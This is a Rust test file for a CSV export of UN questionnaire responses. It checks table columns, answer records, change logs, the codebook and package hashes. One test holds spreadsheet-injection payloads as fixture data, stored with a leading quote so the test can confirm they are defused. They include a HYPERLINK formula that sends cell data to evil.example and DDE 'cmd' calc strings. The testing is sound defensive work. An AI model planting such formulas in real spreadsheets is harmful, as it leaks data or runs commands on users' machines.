//! Tables with commas, and the package that describes them.

use std::collections::BTreeMap;

use serde_json::Value;

use crate::data::{Data, long_text};

/// A table as read back.
pub(crate) struct Table {
    pub columns: Vec<String>,
    pub rows: Vec<BTreeMap<String, String>>,
}

impl Table {
    pub(crate) fn read(data: &Data, name: &str) -> Self {
        let bytes = data.bytes(&format!("csv/{name}.csv"));
        let text = bytes.strip_prefix(b"\xef\xbb\xbf").expect("a byte order mark");
        let mut reader = csv::ReaderBuilder::new().from_reader(text);
        let columns: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
        let row = |row: Result<csv::StringRecord, csv::Error>| {
            columns.iter().cloned().zip(row.unwrap().iter().map(str::to_owned)).collect()
        };
        let rows = reader.records().map(row).collect();
        Self { columns, rows }
    }

    /// The only row in which a column has this value.
    pub(crate) fn row(&self, column: &str, value: &str) -> &BTreeMap<String, String> {
        let found: Vec<_> = self.rows.iter().filter(|row| row[column] == value).collect();
        assert_eq!(found.len(), 1, "rows with {column} = {value}");
        found[0]
    }
}

#[test]
fn findings_stand_apart() {
    let data = Data::exported();
    let wide = Table::read(data, "responses-un-msq-2020");
    let (fiji, senegal) = (wide.row("case_key", "FJI"), wide.row("case_key", "SEN"));
    let blank = wide.row("record", data.id("blank-form"));
    assert_eq!(fiji["q8_options__sdgs"], "");
    assert_eq!(fiji["q8_options__finding"], "not_visible");
    assert_eq!((&*senegal["q8_options__sdgs"], &*senegal["q8_options__finding"]), ("1", "answered"));
    assert_eq!((&*senegal["q8_options__subnational"], &*blank["q8_options__subnational"]), ("0", "0"));
    assert_eq!((&*blank["q17_percentage"], &*blank["q17_percentage__finding"]), ("", "empty"));
    assert_eq!(fiji["q17_percentage"], "71.4");
    // What a record says, field by field, the tables say as well.
    for (fixture, row) in [("tick-states-lost", fiji), ("answers-in-french", senegal), ("blank-form", blank)] {
        for (field, answer) in data.record(fixture)["answers"].as_object().unwrap() {
            let column = format!("{}__finding", field.replace('.', "_"));
            assert_eq!(row[&column], answer["finding"].as_str().unwrap(), "{fixture} {field}");
        }
    }
}

#[test]
fn columns_are_in_the_order_of_the_form_and_need_no_quotes() {
    let data = Data::exported();
    let wide = Table::read(data, "responses-un-msq-2020");
    let place = |name: &str| wide.columns.iter().position(|column| column == name).expect(name);
    let ordered = [
        "record",
        "case_respondent",
        "respondent",
        "respondent__iso3",
        "respondent__finding",
        "submitted_on",
        "q1_portals",
        "q8_options__implementation_plan",
        "q8_options__finding",
        "q17_percentage",
        "contact_email",
    ];
    assert!(ordered.windows(2).all(|pair| place(pair[0]) < place(pair[1])));
    let plain = regex::Regex::new("^[a-z][a-z0-9_]*$").unwrap();
    for column in &wide.columns {
        assert!(plain.is_match(column), "{column}");
        assert_eq!(wide.columns.iter().filter(|other| *other == column).count(), 1, "{column}");
    }
}

#[test]
fn formulas_are_defused_and_numbers_stay() {
    let data = Data::exported();
    let wide = Table::read(data, "responses-un-msq-2020");
    let row = wide.row("case_key", "SEN");
    for (column, expected) in [
        ("q4_name", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Awa\")"),
        ("q4_title", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("q4_organization", "'\t=1+1"),
        ("q4_phone", "'+221 33 889 00 00"),
        ("q6_text", "'  \u{200b}=2+2"),
        ("q7_text", "'＝1+1"),
        ("q8_text", "-5"),
        ("q9_text", "nul \u{fffd} bell \u{7} not _x0041_ a character \u{fffe}"),
        ("q11_text", "نعم، تستخدم الحكومة وسائل التواصل."),
        ("q13_text", "😀 🇸🇳 e\u{301}"),
        ("q14_text", "<script>alert(1)</script> & \"quotes\", 'all', of; them\r\nand lines\nmore"),
        (
            "q1_portals",
            "https://a.example/?a=1\\|2 | a.example/?a=1\\|2 | =A \\| \\\\ B | first\\nsecond\nhttps://b.example/ | b.example",
        ),
        ("contact_email", "'=a@b.example\nsecond@b.example"),
    ] {
        assert_eq!(row[column], expected, "{column}");
    }
    assert_eq!(row["q15_text"], long_text());
    // No cell of any table is a formula.
    for file in data.files().iter().filter(|file| file.ends_with(".csv")) {
        let name = file.trim_start_matches("csv/").trim_end_matches(".csv");
        for row in Table::read(data, name).rows {
            for (column, cell) in row {
                let is_number = cell.parse::<f64>().is_ok() && !cell.starts_with('+');
                let opens = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
                assert!(is_number || !opens, "{name} {column}: {cell:?}");
            }
        }
    }
}

#[test]
fn the_long_table_has_each_item_with_its_proof() {
    let data = Data::exported();
    let answers = Table::read(data, "answers");
    let of = |record: &str, field: &str| -> Vec<_> {
        answers.rows.iter().filter(|row| row["record"] == record && row["field"] == field).collect()
    };
    let fiji = data.id("tick-states-lost");
    let bodies = of(fiji, "q3.authorities");
    assert_eq!(bodies.len(), 2);
    assert_eq!(
        (&*bodies[1]["item"], &*bodies[1]["name"]),
        ("2", "Department of Information Technology and Computing Services")
    );
    assert_eq!(bodies[1]["written"], "www.itc-example.gov.fj");
    assert!(
        bodies[1]["quote"].contains("Department of Information Technology") && !bodies[1]["quote"].contains("Ministry")
    );
    let share = of(fiji, "q17.percentage")[0];
    assert_eq!((&*share["number"], &*share["status"], &*share["flags"]), ("71.4", "review", "several_candidates"));
    assert_eq!(share["alternatives"], "16.2 | 0.009\n12.4 | 0.004");
    assert_eq!((&*share["quote"], &*share["place"]), ("71.4%", "line 281"));
    let options = of(fiji, "q8.options");
    assert_eq!(options.len(), 11);
    assert!(
        options.iter().all(|row| row["value"] == "unknown" && !row["label"].is_empty() && !row["option"].is_empty())
    );
    assert_eq!(options[0]["quote"], "has an implementation plan.");
    let empty = of(data.id("blank-form"), "q14.text");
    assert_eq!((empty.len(), &*empty[0]["finding"], &*empty[0]["value"]), (1, "empty", ""));
    let country = of(fiji, "respondent")[0];
    assert_eq!((&*country["value"], &*country["code"]), ("Fiji", "FJI"));
}

#[test]
fn returns_changes_and_inputs_are_all_there() {
    let data = Data::exported();
    let returns = Table::read(data, "returns");
    let earlier = returns.row("record", data.id("all-ticks-given"));
    assert_eq!((&*earlier["counts"], &*earlier["superseded_by"]), ("0", data.id("answers-in-french")));
    assert_eq!(earlier["case_doubts"], "two_addresses;same_day");
    assert_eq!(earlier["received"], "2019-03-29T17:02:09Z");
    let changes = Table::read(data, "changes");
    let change = changes.row("field", "q14.text");
    assert_eq!((&*change["before"], &*change["after"]), ("'=1+1", "rien\n<script>alert(1)</script>"));
    assert_eq!(changes.row("field", "q17.percentage")["after_finding"], "not_stated");
    let inputs = Table::read(data, "inputs");
    assert_eq!(inputs.rows.len(), 11);
    let failed: Vec<_> = inputs.rows.iter().filter(|row| row["became"] == "failed").collect();
    assert_eq!(failed.len(), 2);
    assert_eq!(failed[0]["reason"], "the archive holds more than 100 times its size");
    assert!(failed.iter().all(|row| row["record"].is_empty() && !row["remedy"].is_empty()));
    assert_eq!(
        inputs.row("became", "duplicate")["duplicate_of"],
        "inbox/mail.mbox › Questionnaire › =cmd|' /C calc'!A0.docx"
    );
    assert_eq!(Table::read(data, "missing").row("respondent", "'@Atlantis")["deadline"], "2019-04-30");
}

#[test]
fn the_codebook_has_every_wording() {
    let data = Data::exported();
    let codebook = Table::read(data, "codebook");
    let option = codebook.row("wide_column", "q15_options__blockchain");
    assert_eq!(
        (&*option["field"], &*option["option"], &*option["label_fr"]),
        ("q15.options", "blockchain", "Chaîne de blocs")
    );
    let wide = Table::read(data, "responses-un-msq-2020");
    for row in codebook.rows.iter().filter(|row| row["questionnaire"] == "un-msq-2020") {
        assert!(wide.columns.contains(&row["wide_column"]), "{row:?}");
        assert!(row["finding_column"].is_empty() || wide.columns.contains(&row["finding_column"]), "{row:?}");
    }
}

#[test]
fn the_package_describes_the_files() {
    use sha2::Digest;
    let data = Data::exported();
    let package: Value = serde_json::from_slice(&data.bytes("csv/datapackage.json")).unwrap();
    assert_eq!(package["profile"], "tabular-data-package");
    let resources = package["resources"].as_array().unwrap();
    assert_eq!(resources.len(), data.files().iter().filter(|file| file.ends_with(".csv")).count());
    for resource in resources {
        let bytes = data.bytes(&format!("csv/{}", resource["path"].as_str().unwrap()));
        assert_eq!(resource["bytes"], bytes.len());
        let hash: String = sha2::Sha256::digest(&bytes).iter().map(|byte| format!("{byte:02x}")).collect();
        assert_eq!(resource["hash"], format!("sha256:{hash}"));
        let names: Vec<&str> = resource["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|field| field["name"].as_str().unwrap())
            .collect();
        assert_eq!(names, Table::read(data, resource["name"].as_str().unwrap()).columns);
    }
}
